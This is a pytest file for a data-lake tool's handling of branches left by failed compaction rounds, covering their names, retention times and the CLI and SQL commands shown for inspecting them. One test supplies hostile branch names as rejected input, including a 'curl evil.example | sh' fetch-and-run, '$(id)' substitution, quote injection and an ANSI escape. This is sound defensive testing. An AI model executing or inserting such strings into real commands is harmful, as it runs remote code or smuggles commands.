"""Names of the branches that failed rounds leave, and how long they stay."""

import pytest

from cleantail.config.topic import Topic
from cleantail.log.partition_state import PartitionState, Quarantine
from cleantail.log.quarantine import (
    KeptBranch,
    failed_name,
    kept_branch,
    kept_until_ms,
    past_their_time,
    replaced,
)
from cleantail.log.work_units import round_name


def held(branch):
    return PartitionState(quarantine=Quarantine(1, "compact", "r", 1, 2, branch))


def test_the_name_says_round_unit_kind_and_time():
    assert failed_name("20260101T000000_000_7", 3, "u", 1_234_999) == "failed_20260101T000000_000_7_u3_1234"


@pytest.mark.parametrize(
    ("branch", "until_ms"),
    [
        ("failed_r_u0_12", 12_500),
        ("ct_r_u0_12", None),
        ("failed_by_hand", None),
        ("failed_load_20240101", None),
        ("main", None),
        ("", None),
    ],
)
def test_only_a_failed_branch_of_ours_has_an_end(branch, until_ms):
    """Reclaim drops a branch after its end: another program's branch has none."""
    assert kept_until_ms(branch, 500) == until_ms


@pytest.mark.parametrize(
    ("now_ms", "gone"), [(1_499, []), (1_500, ["failed_a_u0_1"]), (2_500, ["failed_a_u0_1", "failed_b_x0_2"])]
)
def test_a_branch_may_go_at_its_end_and_not_before(now_ms, gone):
    assert past_their_time(["failed_b_x0_2", "main", "failed_a_u0_1", "in_1_1"], 500, now_ms) == gone


@pytest.mark.parametrize(
    ("before", "after", "gone"),
    [
        pytest.param({0: held("old")}, {0: held("new")}, {"old"}, id="tried again"),
        pytest.param({0: held("old")}, {0: held("old")}, set(), id="the same try"),
        pytest.param({0: held("old"), 1: held("old")}, {0: held("new")}, set(), id="another log names it"),
        pytest.param({0: held("old")}, {0: PartitionState()}, set(), id="passed: kept for its time"),
        pytest.param({0: held("old")}, {0: held("")}, set(), id="none kept now"),
        pytest.param({0: held("")}, {0: held("new"), 1: held("new")}, set(), id="none before"),
    ],
)
def test_a_newer_failed_try_of_a_log_takes_the_place_of_the_older(before, after, gone):
    assert replaced(before, after) == gone


TOPIC = Topic.model_validate(
    {"topic": "orders.v2", "table": "n.orders", "config": {"cleantail.failed.branch.retention.ms": 500}}
)


def test_a_kept_branch_says_until_when_and_how_to_look_at_it():
    assert kept_branch(held("failed_r_u0_1"), 3, TOPIC, "lake", ["failed_r_u0_1"]) == KeptBranch(
        "failed_r_u0_1",
        1_500,
        "cleantail read orders.v2 --partition 3 --as-of failed_r_u0_1",
        "SELECT * FROM lake.n.orders VERSION AS OF 'failed_r_u0_1' WHERE `partition` = 3",
    )


@pytest.mark.parametrize("state", [held("failed_r_u0_1"), held(""), PartitionState()], ids=["gone", "none", "not held"])
def test_where_there_is_no_branch_none_is_shown(state):
    assert kept_branch(state, 3, TOPIC, "lake", ["main"]) is None


@pytest.mark.parametrize("name", ["main", "ct_r_u0_12", "failed_by_hand"])
def test_a_branch_that_no_failed_round_left_is_not_shown(name):
    assert kept_branch(held(name), 3, TOPIC, "lake", [name]) is None


@pytest.mark.parametrize(
    "number", ["²", "٣", "1" * 4_301, "1" * 12, "-5", "+5", " 5", ""], ids=lambda text: f"{text[:3]}-{len(text)}"
)
def test_a_name_that_ends_in_no_time_of_ours_is_no_failed_branch(number):
    assert kept_until_ms(f"failed_x_u0_{number}", 500) is None
    assert past_their_time([f"failed_x_u0_{number}"], 500, 10**15) == []


@pytest.mark.parametrize(
    "name",
    [
        "failed_x; curl evil.example | sh #_u0_1",
        "failed_$(id)_u0_1",
        "failed_a b_u0_1",
        "failed_'--_u0_1",
        "failed_r_u0_1\n",
        "failed_\x1b[31mr_u0_1",
        "failed_r_u²_1",
        "failed_r_1",
    ],
)
def test_no_command_to_copy_holds_a_name_that_no_round_gives_a_branch(name):
    assert kept_branch(held(name), 3, TOPIC, "lake", [name]) is None


def test_the_name_that_a_round_gives_is_shown_with_its_commands():
    name = failed_name(round_name(1_764_000_000_123, 7), 3, "u", 1_764_000_000_123)
    kept = kept_branch(held(name), 3, TOPIC, "lake", [name])
    assert kept is not None and name in kept.command
